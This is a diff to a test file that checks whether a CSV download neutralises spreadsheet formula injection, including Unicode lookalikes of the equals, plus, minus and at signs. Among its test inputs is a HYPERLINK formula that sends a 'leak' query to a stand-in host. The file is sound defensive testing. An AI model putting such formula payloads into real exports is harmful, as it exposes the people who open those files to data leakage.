@@ -591,7 +591,17 @@ def test_the_download_holds_the_profile_and_what_the_groups_hold(backend, sessio
     assert "bob@example.com" not in everything
 
 
-FORMULA_NAMES = ["=1+1", '=HYPERLINK("http://x.example/?leak","click")', "\uff0bSUM(1)", "'quoted"]
+FORMULA_NAMES = [
+    "=1+1",
+    '=HYPERLINK("http://x.example/?leak","click")',
+    "\uff0bSUM(1)",
+    "\ufe66SUM(1)",
+    "\ufe62SUM(1)",
+    "\ufe63SUM(1)",
+    "\ufe6bSUM(1)",
+    "\u22121+1",
+    "'quoted",
+]
 
 
 def test_the_download_neutralises_formulas_in_every_csv_cell(backend, sessions):
@@ -613,7 +623,11 @@ def test_the_download_neutralises_formulas_in_every_csv_cell(backend, sessions):
         for row in csv.reader(io.StringIO(text))
         for cell in row
     ]
-    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    starts = (
+        *("=", "+", "-", "@", "\t", "\r"),
+        *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b"),
+        "\u2212",
+    )
     assert not [cell for cell in cells if cell.startswith(starts)]
     restored = {cell[1:] if cell.startswith("'") else cell for cell in cells}
     assert {"@Ann", "\uff1d1+1", *FORMULA_NAMES} <= restored
